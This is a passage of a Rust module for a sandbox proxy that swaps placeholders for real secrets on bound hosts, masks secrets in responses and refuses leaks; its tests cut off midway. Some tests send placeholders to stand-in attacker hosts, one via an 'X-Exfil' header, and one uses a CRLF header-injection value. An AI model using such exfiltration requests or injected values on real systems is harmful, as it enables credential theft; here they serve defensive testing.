//! Proxy-held secrets: the sandbox holds a placeholder, the proxy swaps in the real value on
//! the way to the hosts the secret is bound to, and swaps it back out of their answers.
//!
//! This module is the substitution engine, independent of transport: a [`SecretSet`] per
//! sandbox, built from [`ProxySecret`]s, rewrites a request's head and (bounded) body for one
//! destination, refuses a request that carries a placeholder to a host it is not bound to
//! ([`LeakAttempt`]), and gives a [`ResponseMasker`] that replaces the real value with the
//! placeholder in a response stream, matches split across reads included.
//!
//! # Where a placeholder is replaced
//! Each secret names the parts of a request it may be substituted in ([`SecretPlaces`],
//! [`ProxySecret::substitute_in`]); a placeholder elsewhere is passed on as it is:
//! - headers (the default): every header value (`Authorization: Bearer …`, `Cookie`, custom
//!   headers), including `Authorization`/`Proxy-Authorization: Basic` credentials, which are
//!   base64-decoded, substituted (`user:placeholder` → `user:value`) and encoded again;
//! - query (opt-in): the request target (path and query string) of the request line;
//! - body (opt-in): bodies given to [`SecretSet::rewrite_body`] (the caller bounds what it
//!   buffers and streams larger bodies unchanged).
//!
//! The request target and the body are opt-in because what is substituted there is often
//! stored by the server, and can then be read back transformed (base64, reversed,
//! encrypted): masking can only catch the transformations it knows. Header names are never
//! rewritten. What is replaced is reported as [`Substitution`]s (the secret's name and
//! where, never a value) for the audit log. A placeholder on its way to a host its secret is
//! not bound to is refused wherever it is ([`LeakAttempt`]), granted or not.
//!
//! # What a response is masked for
//! The [`ResponseMasker`] replaces each bound value by its placeholder, and also the value's
//! encodings by the placeholder's: base64 (standard and URL-safe alphabets, at each of the
//! three alignments a value can have inside a longer encoded text; a few bits of its first and
//! last bytes share a symbol with their neighbours and stay as they were), hexadecimal (lower
//! and upper case) and percent-encoding (reserved bytes or every byte, either case). Every
//! form keeps its length, so a response's framing stays valid. Other transformations
//! (reversal, encryption, compression, parts of a value) cannot be recognised.
//!
//! # Placeholders
//! A placeholder is **as long as the value** it stands for, so that replacing one by the other
//! never changes a length: `Content-Length`, chunk sizes and Basic credentials' base64 stay
//! valid, and a response can be masked as it streams. It is `AGSB_` followed by random
//! letters and digits (62 symbols, from the operating system's random source) when the value
//! has at least 16 bytes, and random letters and digits only for shorter values: unguessable,
//! unique per sandbox and per secret, made only of characters every header, URL and shell
//! accepts unquoted. Values shorter than [`MIN_VALUE_LEN`] bytes are refused: masking them in
//! responses would mangle ordinary text, and their placeholders would be guessable.

use std::fmt;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
pub use sandbox_core::SecretPlaces;
use sandbox_core::{HostRule, Secret};

/// The prefix of the placeholders of values of at least 16 bytes.
pub const PLACEHOLDER_PREFIX: &str = "AGSB_";
/// The shortest secret value the proxy holds (shorter ones would be masked inside unrelated
/// text of responses).
pub const MIN_VALUE_LEN: usize = 8;
/// The longest secret value the proxy holds (its masker searches each response for a few
/// encoded forms of it, up to three times as long).
pub const MAX_VALUE_LEN: usize = 64 * 1024;

/// Why a secret cannot be held by the proxy.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[non_exhaustive]
pub enum SecretError {
    /// The value is too short to mask reliably.
    #[error("secret `{name}`: its value is {len} bytes; a proxy-held secret needs at least {MIN_VALUE_LEN}")]
    TooShort {
        /// The secret's name.
        name: String,
        /// Its length.
        len: usize,
    },
    /// The value is longer than [`MAX_VALUE_LEN`].
    #[error("secret `{name}`: its value is {len} bytes; a proxy-held secret has at most {MAX_VALUE_LEN}")]
    TooLong {
        /// The secret's name.
        name: String,
        /// Its length.
        len: usize,
    },
    /// The value cannot travel in an HTTP header (a CR, LF or NUL byte).
    #[error("secret `{name}`: its value holds a CR, LF or NUL byte, which no header may carry")]
    BadByte {
        /// The secret's name.
        name: String,
    },
    /// No host is bound: the value could never be used.
    #[error("secret `{name}`: no host is bound to it")]
    NoHosts {
        /// The secret's name.
        name: String,
    },
    /// The operating system's random source failed.
    #[error("no random bytes for a placeholder: {0}")]
    Random(String),
}

/// One secret held by the proxy for one sandbox.
#[derive(Clone)]
pub struct ProxySecret {
    name: String,
    placeholder: String,
    value: Secret,
    hosts: Vec<HostRule>,
    places: SecretPlaces,
}

impl fmt::Debug for ProxySecret {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Never the value; the placeholder is what the sandbox sees anyway.
        f.debug_struct("ProxySecret")
            .field("name", &self.name)
            .field("placeholder", &self.placeholder)
            .field("hosts", &self.hosts)
            .field("places", &self.places)
            .finish_non_exhaustive()
    }
}

impl ProxySecret {
    /// Holds `value` for the hosts `hosts`, with a fresh random placeholder, substituted in
    /// headers only (see [`substitute_in`](Self::substitute_in)).
    ///
    /// # Errors
    /// [`SecretError`] for a value that is too short or cannot be a header, no hosts, or no
    /// randomness.
    pub fn new(
        name: impl Into<String>,
        value: Secret,
        hosts: Vec<HostRule>,
    ) -> Result<Self, SecretError> {
        let name = name.into();
        let v = value.expose();
        if v.len() < MIN_VALUE_LEN {
            return Err(SecretError::TooShort { name, len: v.len() });
        }
        if v.len() > MAX_VALUE_LEN {
            return Err(SecretError::TooLong { name, len: v.len() });
        }
        if v.bytes().any(|b| matches!(b, b'\r' | b'\n' | 0)) {
            return Err(SecretError::BadByte { name });
        }
        if hosts.is_empty() {
            return Err(SecretError::NoHosts { name });
        }
        let placeholder = placeholder_for(v.len())?;
        Ok(ProxySecret {
            name,
            placeholder,
            value,
            hosts,
            places: SecretPlaces::default(),
        })
    }

    /// Substitutes the value in these parts of a request (default: headers only).
    pub fn substitute_in(mut self, places: SecretPlaces) -> Self {
        self.places = places;
        self
    }

    /// The parts of a request the value is substituted in.
    pub fn places(&self) -> SecretPlaces {
        self.places
    }

    /// Whether the value may be substituted at `place`.
    fn granted(&self, place: &Place) -> bool {
        match place {
            Place::Target => self.places.query,
            Place::Header(_) | Place::BasicCredentials(_) => self.places.headers,
            Place::Body => self.places.body,
        }
    }

    /// The secret's name (for the audit log).
    pub fn name(&self) -> &str {
        &self.name
    }

    /// What the sandbox holds instead of the value.
    pub fn placeholder(&self) -> &str {
        &self.placeholder
    }

    /// The hosts the value goes to.
    pub fn hosts(&self) -> &[HostRule] {
        &self.hosts
    }

    /// Whether the value goes to `host:port`.
    pub fn binds(&self, host: &str, port: u16) -> bool {
        self.hosts.iter().any(|h| h.matches(host, port))
    }
}

/// A random placeholder of `len` bytes (see the module docs).
fn placeholder_for(len: usize) -> Result<String, SecretError> {
    const ALPHABET: &[u8; 62] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let prefix = if len >= 16 { PLACEHOLDER_PREFIX } else { "" };
    let mut out = String::with_capacity(len);
    out.push_str(prefix);
    let mut random = [0u8; 64];
    while out.len() < len {
        getrandom::fill(&mut random).map_err(|e| SecretError::Random(e.to_string()))?;
        // Rejection sampling: 248 = 4 × 62, so every symbol is equally likely.
        for b in random.iter().filter(|b| **b < 248) {
            if out.len() == len {
                break;
            }
            out.push(char::from(ALPHABET[usize::from(*b % 62)]));
        }
    }
    Ok(out)
}

/// Where in a request a placeholder was replaced (or found).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum Place {
    /// The request target (path or query string).
    Target,
    /// A header's value, by the header's name as sent (lowercased).
    Header(String),
    /// A header's Basic credentials (`Authorization: Basic …`), by the header's name.
    BasicCredentials(String),
    /// The body.
    Body,
}

impl fmt::Display for Place {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Place::Target => f.write_str("request target"),
            Place::Header(h) => write!(f, "header {h}"),
            Place::BasicCredentials(h) => write!(f, "header {h} (basic credentials)"),
            Place::Body => f.write_str("body"),
        }
    }
}

/// One replacement, for the audit log: which secret, where. Never the value.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Substitution {
    /// The secret's name.
    pub secret: String,
    /// Where it was replaced.
    pub place: Place,
}

/// A placeholder on its way to a host it is not bound to: the request is refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "the placeholder of secret `{secret}` in the {place}, sent to {host}:{port}, which it is \
     not bound to"
)]
#[non_exhaustive]
pub struct LeakAttempt {
    /// The secret's name.
    pub secret: String,
    /// Where the placeholder was.
    pub place: Place,
    /// The destination's name (or address).
    pub host: String,
    /// The destination's port.
    pub port: u16,
}

/// A request head rewritten for one destination.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Rewritten {
    /// The head, with every placeholder bound to the destination replaced by its value.
    pub head: Vec<u8>,
    /// What was replaced.
    pub substitutions: Vec<Substitution>,
}

/// The secrets the proxy holds for one sandbox.
#[derive(Debug, Clone, Default)]
pub struct SecretSet {
    secrets: Vec<ProxySecret>,
    /// What responses are masked for, built once per set of bound secrets (by their
    /// indices) and shared by every connection: building it costs more than a request.
    masks: Arc<Mutex<MaskCache>>,
}

/// Built masks, by the indices of the secrets they mask.
type MaskCache = Vec<(Vec<usize>, Arc<Masks>)>;

impl SecretSet {
    /// A set of these secrets.
    pub fn new(secrets: Vec<ProxySecret>) -> Self {
        SecretSet {
            secrets,
            masks: Arc::default(),
        }
    }

    /// The secrets.
    pub fn secrets(&self) -> &[ProxySecret] {
        &self.secrets
    }

    /// Whether the set holds nothing.
    pub fn is_empty(&self) -> bool {
        self.secrets.is_empty()
    }

    /// Whether any secret is bound to `host:port` (the proxy terminates TLS only for those).
    pub fn binds_any(&self, host: &str, port: u16) -> bool {
        self.secrets.iter().any(|s| s.binds(host, port))
    }

    /// The first placeholder found in `data`, if any (by the secret's name).
    pub fn find_placeholder(&self, data: &[u8]) -> Option<&str> {
        self.secrets
            .iter()
            .find(|s| find(data, s.placeholder.as_bytes()).is_some())
            .map(|s| s.name.as_str())
    }

    /// Where a request carries a placeholder, whatever its destination: the first one found
    /// in `head` (the request line, then each header, Basic credentials decoded), then in
    /// `body`. By the secret's name. For requests that no secret may travel in at all (a
    /// `CONNECT` is addressed to the proxy itself) and for unbound destinations.
    pub fn locate(&self, head: &[u8], body: &[u8]) -> Option<(&str, Place)> {
        if self.secrets.is_empty() {
            return None;
        }
        let mut lines = split_lines(head).into_iter();
        if let Some((line, _)) = lines.next() {
            if let Some(name) = self.find_placeholder(line) {
                return Some((name, Place::Target));
            }
        }
        for (line, _) in lines {
            let Some(colon) = line.iter().position(|b| *b == b':') else {
                continue;
            };
            let lname = String::from_utf8_lossy(&line[..colon])
                .trim()
                .to_ascii_lowercase();
            let value = value_or(line, colon);
            if let Some(name) = self.find_placeholder(value) {
                return Some((name, Place::Header(lname)));
            }
            if let Some((_, decoded)) = basic_credentials(value) {
                if let Some(name) = self.find_placeholder(&decoded) {
                    return Some((name, Place::BasicCredentials(lname)));
                }
            }
        }
        self.find_placeholder(body).map(|name| (name, Place::Body))
    }

    /// [`locate`](Self::locate) as the [`LeakAttempt`] of sending the request to
    /// `host:port`.
    pub fn leak_attempt(
        &self,
        head: &[u8],
        body: &[u8],
        host: &str,
        port: u16,
    ) -> Option<LeakAttempt> {
        self.locate(head, body).map(|(secret, place)| LeakAttempt {
            secret: secret.to_owned(),
            place,
            host: host.to_owned(),
            port,
        })
    }

    /// Rewrites a request head (`METHOD target VERSION\r\n` and header lines, the blank line
    /// included or not) for a request to `host:port`: every placeholder of a secret bound
    /// there is replaced by its value where the secret is granted (the request target for
    /// [`SecretPlaces::query`], header values for [`SecretPlaces::headers`]); elsewhere it
    /// stays as it is.
    ///
    /// # Errors
    /// [`LeakAttempt`] when the head carries a placeholder of a secret that is **not** bound to
    /// `host:port` (nothing is sent then).
    pub fn rewrite_head(
        &self,
        host: &str,
        port: u16,
        head: &[u8],
    ) -> Result<Rewritten, LeakAttempt> {
        let mut out = Vec::with_capacity(head.len() + 64);
        let mut subs = Vec::new();
        let mut lines = split_lines(head).into_iter();
        if let Some((line, eol)) = lines.next() {
            out.extend_from_slice(&self.rewrite_field(
                host,
                port,
                line,
                Place::Target,
                &mut subs,
            )?);
            out.extend_from_slice(eol);
        }
        for (line, eol) in lines {
            let Some(colon) = line.iter().position(|b| *b == b':') else {
                out.extend_from_slice(line);
                out.extend_from_slice(eol);
                continue;
            };
            let (name, value) = (&line[..colon], &line[colon + 1..]);
            let lname = String::from_utf8_lossy(name).trim().to_ascii_lowercase();
            let value = if matches!(lname.as_str(), "authorization" | "proxy-authorization") {
                self.rewrite_basic(host, port, &lname, value, &mut subs)?
            } else {
                None
            };
            let value = match value {
                Some(v) => v,
                None => self.rewrite_field(
                    host,
                    port,
                    value_or(line, colon),
                    Place::Header(lname),
                    &mut subs,
                )?,
            };
            out.extend_from_slice(name);
            out.push(b':');
            out.extend_from_slice(&value);
            out.extend_from_slice(eol);
        }
        Ok(Rewritten {
            head: out,
            substitutions: subs,
        })
    }

    /// Rewrites a (whole, buffered) request body for `host:port`, as
    /// [`rewrite_head`](Self::rewrite_head) does the head: only the placeholders of secrets
    /// granted [`SecretPlaces::body`] are replaced.
    ///
    /// # Errors
    /// [`LeakAttempt`] as for the head.
    pub fn rewrite_body(
        &self,
        host: &str,
        port: u16,
        body: &[u8],
    ) -> Result<(Vec<u8>, Vec<Substitution>), LeakAttempt> {
        let mut subs = Vec::new();
        let out = self.rewrite_field(host, port, body, Place::Body, &mut subs)?;
        Ok((out, subs))
    }

    /// A masker for responses from `host:port`: the values of the secrets bound there, and
    /// their encoded forms (see the module docs), are replaced by their placeholders'.
    pub fn masker(&self, host: &str, port: u16) -> ResponseMasker {
        let bound: Vec<usize> = (0..self.secrets.len())
            .filter(|i| self.secrets[*i].binds(host, port))
            .collect();
        let mut cache = self.masks.lock().unwrap_or_else(|p| p.into_inner());
        if let Some((_, m)) = cache.iter().find(|(k, _)| *k == bound) {
            return ResponseMasker::with(Arc::clone(m));
        }
        let mut pairs = Vec::new();
        for s in bound.iter().map(|i| &self.secrets[*i]) {
            pairs.extend(masked_forms(
                s.value.expose().as_bytes(),
                s.placeholder.as_bytes(),
            ));
        }
        let masks = Arc::new(Masks::new(pairs));
        // Bounded: as many entries as distinct sets of bound secrets, which the hosts a
        // sandbox talks to make few; a set that talks to very many starts over.
        if cache.len() >= 64 {
            cache.clear();
        }
        cache.push((bound, Arc::clone(&masks)));
        ResponseMasker::with(masks)
    }

    fn rewrite_field(
        &self,
        host: &str,
        port: u16,
        field: &[u8],
        place: Place,
        subs: &mut Vec<Substitution>,
    ) -> Result<Vec<u8>, LeakAttempt> {
        let mut out = field.to_vec();
        for s in &self.secrets {
            if find(&out, s.placeholder.as_bytes()).is_none() {
                continue;
            }
            if !s.binds(host, port) {
                return Err(LeakAttempt {
                    secret: s.name.clone(),
                    place,
                    host: host.to_owned(),
                    port,
                });
            }
            if !s.granted(&place) {
                // Bound here, but not granted this part of a request: passed on as it is.
                continue;
            }
            out = replace_all(&out, s.placeholder.as_bytes(), s.value.expose().as_bytes());
            subs.push(Substitution {
                secret: s.name.clone(),
                place: place.clone(),
            });
        }
        Ok(out)
    }

    /// `Basic <base64(user:password)>` with a placeholder inside: decoded, rewritten and
    /// encoded again. `None` when the value is not Basic credentials holding a placeholder.
    fn rewrite_basic(
        &self,
        host: &str,
        port: u16,
        header: &str,
        value: &[u8],
        subs: &mut Vec<Substitution>,
    ) -> Result<Option<Vec<u8>>, LeakAttempt> {
        let Some((scheme, decoded)) = basic_credentials(value) else {
            return Ok(None);
        };
        if self.find_placeholder(&decoded).is_none() {
            return Ok(None);
        }
        let plain = self.rewrite_field(
            host,
            port,
            &decoded,
            Place::BasicCredentials(header.to_owned()),
            subs,
        )?;
        let encoded = base64::engine::general_purpose::STANDARD.encode(plain);
        Ok(Some(format!(" {scheme} {encoded}").into_bytes()))
    }
}

/// Replaces each secret's value (and its encoded forms) by its placeholder in a response,
/// chunk by chunk; a value split across chunks is still found. Only a chunk's tail that
/// could still become a value (a proper prefix of one) is held back, until the next chunk or
/// [`finish`](Self::finish); everything else is passed on at once.
///
/// Held bytes are never given up on by time: the caller calls [`finish`](Self::finish) where
/// what it masks ends (a response body's end, the end of the stream), so that a value whose
/// halves arrive far apart is still masked whole. It masks whole values only: a server that
/// echoes part of a value reveals that part.
///
/// On the hot path of every intercepted download: all forms of all values are searched in one
/// pass (Aho-Corasick, SIMD prefilters where the CPU has them), and
/// [`push_into`](Self::push_into) appends to the caller's buffer, so a chunk without a value
/// costs one search and one copy.
pub struct ResponseMasker {
    masks: Arc<Masks>,
    carry: Vec<u8>,
    masked: u64,
}

/// What a masker looks for (every form of every value) and what each becomes.
struct Masks {
    /// Leftmost-longest: where two forms start together, the longer one wins.
    finder: Option<aho_corasick::AhoCorasick>,
    needles: Vec<Vec<u8>>,
    replacements: Vec<Vec<u8>>,
    /// The bytes a needle starts with.
    starts: [bool; 256],
    /// The longest needle, less one: the most a chunk's tail can be held.
    hold: usize,
}

impl fmt::Debug for ResponseMasker {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Never the values.
        f.debug_struct("ResponseMasker")
            .field("forms", &self.masks.needles.len())
            .field("holding", &self.carry.len())
            .field("masked", &self.masked)
            .finish()
    }
}

impl fmt::Debug for Masks {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Never the values.
        f.debug_struct("Masks")
            .field("forms", &self.needles.len())
            .finish_non_exhaustive()
    }
}

impl Masks {
    fn new(pairs: Vec<(Vec<u8>, Vec<u8>)>) -> Self {
        let mut needles: Vec<Vec<u8>> = Vec::with_capacity(pairs.len());
        let mut replacements = Vec::with_capacity(pairs.len());
        for (v, p) in pairs {
            if v.is_empty() || v.len() != p.len() || needles.contains(&v) {
                continue;
            }
            needles.push(v);
            replacements.push(p);
        }
        let mut starts = [false; 256];
        for n in &needles {
            starts[usize::from(n[0])] = true;
        }
        let hold = needles
            .iter()
            .map(|n| n.len().saturating_sub(1))
            .max()
            .unwrap_or(0);
        // A few short patterns: building cannot run into the automaton's limits (a failure
        // would leave the finder out, and `ResponseMasker::is_active` false).
        let finder = if needles.is_empty() {
            None
        } else {
            aho_corasick::AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostLongest)
                .build(&needles)
                .ok()
        };
        Masks {
            finder,
            needles,
            replacements,
            starts,
            hold,
        }
    }

    fn is_proper_prefix(&self, tail: &[u8]) -> bool {
        self.needles
            .iter()
            .any(|n| n.len() > tail.len() && n.starts_with(tail))
    }
}

impl ResponseMasker {
    fn with(masks: Arc<Masks>) -> Self {
        ResponseMasker {
            masks,
            carry: Vec::new(),
            masked: 0,
        }
    }

    /// Whether it masks anything (no bound secret: bytes pass through as they are).
    pub fn is_active(&self) -> bool {
        self.masks.finder.is_some()
    }

    /// How many values (in any form) it replaced so far.
    pub fn masked(&self) -> u64 {
        self.masked
    }

    /// The next chunk: what may be sent on now (possibly less than was pushed).
    pub fn push(&mut self, chunk: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(chunk.len() + self.carry.len());
        self.push_into(chunk, &mut out);
        out
    }

    /// [`push`](Self::push), appending what may be sent on now to `out`.
    pub fn push_into(&mut self, chunk: &[u8], out: &mut Vec<u8>) {
        if !self.is_active() {
            out.extend_from_slice(chunk);
            return;
        }
        if self.carry.is_empty() {
            let kept = self.mask(chunk, out, false);
            self.carry.extend_from_slice(&chunk[chunk.len() - kept..]);
        } else {
            // A held tail: searched together with the new bytes (it is shorter than the
            // longest form, so this copy is small unless the chunks are).
            let mut buf = std::mem::take(&mut self.carry);
            buf.extend_from_slice(chunk);
            let kept = self.mask(&buf, out, false);
            buf.drain(..buf.len() - kept);
            self.carry = buf;
        }
    }

    /// Appends `buf` to `out` with every value replaced, except (unless `last`) a tail that
    /// could still become a value; returns that tail's length.
    fn mask(&mut self, buf: &[u8], out: &mut Vec<u8>, last: bool) -> usize {
        let masks = Arc::clone(&self.masks);
        let Some(finder) = &masks.finder else {
            out.extend_from_slice(buf);
            return 0;
        };
        // Where a form could still begin and end beyond `buf`: a proper prefix of one runs to
        // the end (only the last `hold` bytes can be).
        let pending: Vec<usize> = if last {
            Vec::new()
        } else {
            (buf.len().saturating_sub(masks.hold)..buf.len())
                .filter(|&q| masks.starts[usize::from(buf[q])] && masks.is_proper_prefix(&buf[q..]))
                .collect()
        };
        let first_pending = |from: usize| {
            pending
                .iter()
                .copied()
                .find(|q| *q >= from)
                .unwrap_or(buf.len())
        };
        let mut i = 0;
        for m in finder.find_iter(buf) {
            // A form that may still complete starts at or before this match: it decides
            // (leftmost, then longest) once more bytes came.
            if first_pending(i) <= m.start() {
                break;
            }
            out.extend_from_slice(&buf[i..m.start()]);
            out.extend_from_slice(&masks.replacements[m.pattern().as_usize()]);
            self.masked += 1;
            i = m.end();
        }
        let held = first_pending(i);
        out.extend_from_slice(&buf[i..held]);
        buf.len() - held
    }

    /// The end of what is masked (a response body, the stream): what was held back, masked
    /// (a proper prefix of a value at most stays as it is: nothing follows it).
    pub fn finish(&mut self) -> Vec<u8> {
        let carry = std::mem::take(&mut self.carry);
        let mut out = Vec::with_capacity(carry.len());
        self.mask(&carry, &mut out, true);
        out
    }

    /// Whether bytes are held back, waiting to see if a value follows.
    pub fn holding(&self) -> bool {
        !self.carry.is_empty()
    }
}

/// The forms of `value` a masker replaces, each with the same form of `placeholder` (as long
/// as the value, so every form keeps its length): the value itself; base64, standard and
/// URL-safe, at each alignment, only the symbols that encode value bits alone; hexadecimal,
/// lower and upper case; percent-encoded, reserved bytes or every byte, either case.
fn masked_forms(value: &[u8], placeholder: &[u8]) -> Vec<(Vec<u8>, Vec<u8>)> {
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let mut forms = vec![(value.to_vec(), placeholder.to_vec())];
    if value.len() != placeholder.len() {
        return forms;
    }
    for engine in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
        for offset in 0..3 {
            forms.push((
                base64_core(engine, offset, value),
                base64_core(engine, offset, placeholder),
            ));
        }
    }
    for upper in [false, true] {
        forms.push((hex(value, upper), hex(placeholder, upper)));
        for all in [false, true] {
            forms.push(percent(value, placeholder, upper, all));
        }
    }
    // Short cores (a short value at an awkward alignment) would match ordinary text.
    forms.retain(|(v, _)| v.len() >= MIN_VALUE_LEN);
    forms
}

/// The base64 symbols of `x` that depend on `x` alone, when `x` starts `offset` bytes into a
/// 3-byte group of a longer encoded text: the symbols shared with the bytes before and after
/// are left out.
fn base64_core(engine: &base64::engine::GeneralPurpose, offset: usize, x: &[u8]) -> Vec<u8> {
    let mut input = vec![0u8; offset];
    input.extend_from_slice(x);
    let enc = engine.encode(&input).into_bytes();
    // Offset 1: the 2nd symbol mixes the byte before with ours; offset 2: the 3rd.
    let skip = [0, 2, 3][offset % 3];
    // An incomplete last group: its last symbol mixes ours with the byte after.
    let keep = if input.len().is_multiple_of(3) {
        enc.len()
    } else {
        enc.len() - 1
    };
    enc.get(skip..keep).unwrap_or_default().to_vec()
}

fn hex(x: &[u8], upper: bool) -> Vec<u8> {
    let digits: &[u8; 16] = if upper {
        b"0123456789ABCDEF"
    } else {
        b"0123456789abcdef"
    };
    x.iter()
        .flat_map(|b| [digits[usize::from(b >> 4)], digits[usize::from(b & 15)]])
        .collect()
}

/// The value percent-encoded (every byte, or all but the unreserved ones), and the
/// placeholder encoded at the same positions, so both have the same length.
fn percent(value: &[u8], placeholder: &[u8], upper: bool, all: bool) -> (Vec<u8>, Vec<u8>) {
    let (mut v, mut p) = (Vec::new(), Vec::new());
    for (a, b) in value.iter().zip(placeholder) {
        let encode = all || !(a.is_ascii_alphanumeric() || b"-._~".contains(a));
        if encode {
            v.push(b'%');
            v.extend(hex(&[*a], upper));
            p.push(b'%');
            p.extend(hex(&[*b], upper));
        } else {
            v.push(*a);
            p.push(*b);
        }
    }
    (v, p)
}

/// `Basic <base64>` credentials, decoded, with the scheme as written.
fn basic_credentials(value: &[u8]) -> Option<(String, Vec<u8>)> {
    let text = String::from_utf8_lossy(value);
    let (scheme, cred) = text.trim().split_once(' ')?;
    if !scheme.eq_ignore_ascii_case("basic") {
        return None;
    }
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(cred.trim())
        .ok()?;
    Some((scheme.to_owned(), decoded))
}

fn value_or(line: &[u8], colon: usize) -> &[u8] {
    line.get(colon + 1..).unwrap_or_default()
}

/// Lines with their terminators (`\r\n`, `\n`, or empty for the last unterminated one).
fn split_lines(data: &[u8]) -> Vec<(&[u8], &[u8])> {
    let mut v = Vec::new();
    let mut start = 0;
    while start < data.len() {
        match data[start..].iter().position(|b| *b == b'\n') {
            Some(nl) => {
                let end = start + nl;
                let (line, eol) = if end > start && data[end - 1] == b'\r' {
                    (&data[start..end - 1], &data[end - 1..=end])
                } else {
                    (&data[start..end], &data[end..=end])
                };
                v.push((line, eol));
                start = end + 1;
            }
            None => {
                v.push((&data[start..], &data[data.len()..]));
                break;
            }
        }
    }
    v
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() {
        return None;
    }
    memchr::memmem::find(hay, needle)
}

fn replace_all(hay: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(hay.len());
    let mut i = 0;
    while let Some(at) = find(&hay[i..], from) {
        out.extend_from_slice(&hay[i..i + at]);
        out.extend_from_slice(to);
        i += at + from.len();
    }
    out.extend_from_slice(&hay[i..]);
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;

    const VALUE: &str = "ghp_realTOKENvalue0123456789";

    fn set() -> (SecretSet, String) {
        set_in(SecretPlaces::default())
    }

    fn set_in(places: SecretPlaces) -> (SecretSet, String) {
        let s = ProxySecret::new(
            "GITHUB_TOKEN",
            Secret::new(VALUE),
            vec![
                "api.github.com".parse().unwrap(),
                "*.githubusercontent.com".parse().unwrap(),
            ],
        )
        .unwrap()
        .substitute_in(places);
        let p = s.placeholder().to_string();
        (SecretSet::new(vec![s]), p)
    }

    #[test]
    fn placeholders_are_random_plain_and_as_long_as_the_value() {
        let (a, pa) = set();
        let (_, pb) = set();
        assert_ne!(pa, pb);
        assert!(pa.starts_with(PLACEHOLDER_PREFIX));
        assert_eq!(pa.len(), VALUE.len());
        assert!(pa.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
        // Short values: all random, same length.
        let short = ProxySecret::new(
            "P",
            Secret::new("hunter22"),
            vec!["example.com".parse().unwrap()],
        )
        .unwrap();
        assert_eq!(short.placeholder().len(), 8);
        assert!(short
            .placeholder()
            .bytes()
            .all(|b| b.is_ascii_alphanumeric()));
        // Debug never shows the value.
        assert!(!format!("{a:?}").contains(VALUE));
    }

    #[test]
    fn bad_secrets_are_refused() {
        let h = || vec!["example.com".parse().unwrap()];
        assert!(matches!(
            ProxySecret::new("S", Secret::new("short"), h()),
            Err(SecretError::TooShort { len: 5, .. })
        ));
        assert!(matches!(
            ProxySecret::new("S", Secret::new("long enough\r\nX-Evil: 1"), h()),
            Err(SecretError::BadByte { .. })
        ));
        assert!(matches!(
            ProxySecret::new("S", Secret::new("long enough"), vec![]),
            Err(SecretError::NoHosts { .. })
        ));
        assert!(matches!(
            ProxySecret::new("S", Secret::new("x".repeat(MAX_VALUE_LEN + 1)), h()),
            Err(SecretError::TooLong { .. })
        ));
    }

    #[test]
    fn headers_query_and_cookies_are_substituted_for_a_bound_host() {
        let (s, p) = set_in("header,query".parse().unwrap());
        let head = format!(
            "GET /repos?access_token={p}&x=1 HTTP/1.1\r\nHost: api.github.com\r\n\
             Authorization: Bearer {p}\r\nCookie: a=1; tok={p}\r\nX-Other: plain\r\n\r\n"
        );
        let r = s
            .rewrite_head("api.github.com", 443, head.as_bytes())
            .unwrap();
        let out = String::from_utf8(r.head).unwrap();
        assert_eq!(
            out,
            format!(
                "GET /repos?access_token={VALUE}&x=1 HTTP/1.1\r\nHost: api.github.com\r\n\
                 Authorization: Bearer {VALUE}\r\nCookie: a=1; tok={VALUE}\r\nX-Other: plain\r\n\r\n"
            )
        );
        let places: Vec<String> = r
            .substitutions
            .iter()
            .map(|s| s.place.to_string())
            .collect();
        assert_eq!(
            places,
            ["request target", "header authorization", "header cookie"]
        );
        assert!(r.substitutions.iter().all(|x| x.secret == "GITHUB_TOKEN"));
        // A wildcard binding.
        assert!(s
            .rewrite_head("raw.githubusercontent.com", 443, head.as_bytes())
            .is_ok());
    }

    #[test]
    fn basic_credentials_are_decoded_substituted_and_encoded() {
        let (s, p) = set();
        let b64 = base64::engine::general_purpose::STANDARD;
        let head = format!(
            "GET /repo.git/info/refs HTTP/1.1\r\nAuthorization: Basic {}\r\n\r\n",
            b64.encode(format!("x-access-token:{p}"))
        );
        let r = s
            .rewrite_head("api.github.com", 443, head.as_bytes())
            .unwrap();
        let out = String::from_utf8(r.head).unwrap();
        let cred = out
            .lines()
            .find_map(|l| l.strip_prefix("Authorization: Basic "))
            .unwrap();
        assert_eq!(
            b64.decode(cred).unwrap(),
            format!("x-access-token:{VALUE}").into_bytes()
        );
        assert_eq!(
            r.substitutions[0].place,
            Place::BasicCredentials("authorization".into())
        );
        // To another host, the hidden placeholder is still found.
        let e = s
            .rewrite_head("attacker.example", 443, head.as_bytes())
            .unwrap_err();
        assert_eq!(e.place, Place::BasicCredentials("authorization".into()));
    }

    #[test]
    fn a_placeholder_to_an_unbound_host_is_a_leak_attempt() {
        let (s, p) = set();
        for head in [
            format!("GET /?t={p} HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
            format!("POST / HTTP/1.1\r\nX-Exfil: {p}\r\n\r\n"),
        ] {
            let e = s
                .rewrite_head("evil.example", 80, head.as_bytes())
                .unwrap_err();
            assert_eq!(e.secret, "GITHUB_TOKEN");
            assert!(e.to_string().contains("evil.example:80"), "{e}");
            assert!(!e.to_string().contains(VALUE));
        }
